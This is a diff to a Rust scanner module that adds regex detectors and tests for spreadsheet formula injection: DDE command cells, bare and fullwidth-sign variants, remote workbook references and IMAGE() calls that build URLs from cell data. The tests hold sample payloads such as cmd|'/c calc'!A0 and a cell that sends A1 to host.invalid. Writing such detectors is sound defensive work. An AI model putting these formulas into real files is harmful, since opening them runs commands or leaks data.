@@ -7,7 +7,13 @@ use lazaret_model::{Part, Severity, on_this_machine};
 
 patterns! {
     // A formula with a DDE link, `program|'topic'!item`, or the function of LibreOffice.
-    DDE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@-][^\r\n]{0,200}?(?:\b[a-z][a-z0-9_.]{1,30}\|\s*'[^'\r\n]{1,300}'\s*!|\bdde\s*\(\s*["'])"#;
+    DDE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@\x{ff1d}\x{ff0b}\x{ff20}-][^\r\n]{0,200}?(?:(?:\b[a-z][a-z0-9_.]{1,30}|'[^'\r\n]{1,260}')\|\s*'[^'\r\n]{1,300}'\s*!|\bdde\s*\(\s*["'])"#;
+    // A topic without quotes, which looks like prose behind a sign that prose has as well.
+    BARE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}(?:[=@\x{ff1d}][^\r\n,;\t"]{0,200}?\b[a-z][a-z0-9_.]{1,30}\|[a-z0-9_./\\:-]{1,100}!['$]{0,2}[a-z]|[+-][0-9+*/.() -]{0,40}\b[a-z][a-z0-9_.]{1,30}\|[a-z0-9_./\\:-]{1,100}!['$]{0,2}[a-z]{1,3}\$?[0-9])"#;
+    // Values of a workbook on a share.
+    BOOK_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}[=+@-][^\r\n]{0,200}?'(?P<place>(?:file:|\\\\)[^'\r\n]{1,300})'\s*!"#;
+    // A picture whose address is put together of what the table holds.
+    IMAGE_CELL = r#"(?im)(?:^|[,;\t"|>])[\s"']{0,4}(?:[=@][^\r\n]{0,200}?|[+-][0-9+*/.() -]{0,40})\bimage\(\s*(?:["']{1,2}https?:[^"'\r\n]{0,300}["']{1,2}\s*&|concat|textjoin)"#;
     // Functions that call a library or run a program, and such as fetch. After a sign that prose has as well, only numbers come before.
     CALL_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n,;\t]{0,200}?|[+-][0-9+*/.() -]{0,40})\b(?:call|register(?:\.id)?|exec)\(["']"#;
     FETCH_CELL = r#"(?im)(?:^|[,;\t"|])[\s"']{0,4}(?:[=@][^\r\n]{0,200}?|[+-][0-9+*/.() -]{0,40})\b(?:webservice|rtd|importdata|importxml|importhtml|importfeed|importrange)\(["'a-z]"#;
@@ -26,7 +32,7 @@ pub(super) fn wants(part: &Part) -> bool {
 
 /// Looks at the cells of a table.
 pub(super) fn look(part: &Part, text: &str, findings: &mut Findings) {
-    if let Some(value) = excerpt(&DDE_CELL, text) {
+    if let Some(value) = excerpt(&DDE_CELL, text).or_else(|| excerpt(&BARE_CELL, text)) {
         let message = "a cell of the table asks another program to run a command (DDE)";
         findings.add(finding("document.dde-cell", Severity::High, message, &value).technique("T1559.002"));
     }
@@ -36,9 +42,15 @@ pub(super) fn look(part: &Part, text: &str, findings: &mut Findings) {
         let message = "a cell of the table calls a library or runs a program";
         findings.add(finding("document.active-cell", Severity::High, message, &value).technique("T1204.002"));
     }
-    if let Some(value) = excerpt(if page { &PAGE_CELL } else { &FETCH_CELL }, text) {
+    let fetched = excerpt(if page { &PAGE_CELL } else { &FETCH_CELL }, text);
+    if let Some(value) = fetched.or_else(|| excerpt(&IMAGE_CELL, text)) {
         let message = "a cell of the table fetches something, or sends something away, when the table is opened";
         findings.add(finding("document.active-cell", Severity::Medium, message, &value).technique("T1204.002"));
+    }
+    let mut books = BOOK_CELL.captures_iter(text).filter_map(|found| found.name("place")).map(|place| place.as_str());
+    if let Some(place) = books.find(|place| !on_this_machine(place)) {
+        let message = "a cell of the table takes its value of a file on another machine";
+        findings.add(finding("document.active-cell", Severity::Medium, message, place).technique("T1187"));
     }
     let mut places = LINK_CELL.captures_iter(text).filter_map(|found| found.name("place")).map(|place| place.as_str());
     if let Some(place) = places.find(|place| !on_this_machine(place) || PROGRAM.is_match(place)) {
@@ -61,6 +73,11 @@ mod tests {
             ("a;\"=2+5+cmd|' /C calc'!A0\"\n", &[CELL]),
             ("@SUM(1+1)*cmd|'/C calc'!A0\n", &[CELL]),
             ("-3+MSEXCEL|'\\..\\calc.exe'!A1\n", &[CELL]),
+            (r"='C:\Windows\System32\cmd.exe'|'/c calc'!A0", &[CELL]),
+            ("a,=cmd|calc!A0\n", &[CELL]),
+            ("\u{ff1d}cmd|'/c calc'!A0\n", &[CELL]),
+            ("a,+cmd|calc!A0\n", &[CELL]),
+            ("a,- yes|no!always\n+ this|that!x\n", &[]),
             ("+DDE(\"cmd\";\"/C calc\";\"x\")\n", &[CELL]),
             ("date,amount\n2026-01-05,-12.50\n,=SUM(A1:A2)\n", &[]),
             ("command,meaning\nls | wc,-counts\ncmd | more,pages\n", &[]),
@@ -82,6 +99,9 @@ mod tests {
             ("=RTD(\"a.b\",\"host.invalid\",\"c\")\n", &[FETCHES]),
             ("a,\"=HYPERLINK(\"\"\\\\host.invalid\\share\\a\"\",\"\"b\"\")\"\n", &[FETCHES]),
             ("=HYPERLINK(\"file://host.invalid/a\")\n", &[FETCHES]),
+            (r"='\\host.invalid\s\[a.xls]S'!A1", &[FETCHES]),
+            ("=IMAGE(\"https://host.invalid/?\"&A1)\n", &[FETCHES]),
+            ("a,\"=IMAGE(\"\"https://host.invalid/?\"\"&A1)\"\n", &[FETCHES]),
             ("=HYPERLINK(\"file:///C:/Windows/System32/calc.exe\")\n", &[FETCHES]),
         ] {
             check(&Documents, "csv", text, expected);
@@ -93,6 +113,9 @@ mod tests {
         for text in [
             "a,=HYPERLINK(\"https://host.invalid/\",\"page\")\n",
             "a,=HYPERLINK(\"file:///C:/data/a.pdf\")\n",
+            "a,=IMAGE(\"https://host.invalid/a.png\")\n",
+            "a,=HYPERLINK(\"https://host.invalid/?id=\"&A1)\n",
+            "a,='C:\\data\\[a.xls]S'!A1\n",
             "task,- call (see below)\n- register (\"new\") users\n",
             "formula,what it does\nWEBSERVICE(\"a\"),fetches\nwrite =CALL in a cell,never\n",
             "a,-exec(utive) board\n+41 44 000 00 00,call (\"Ann\")\n",
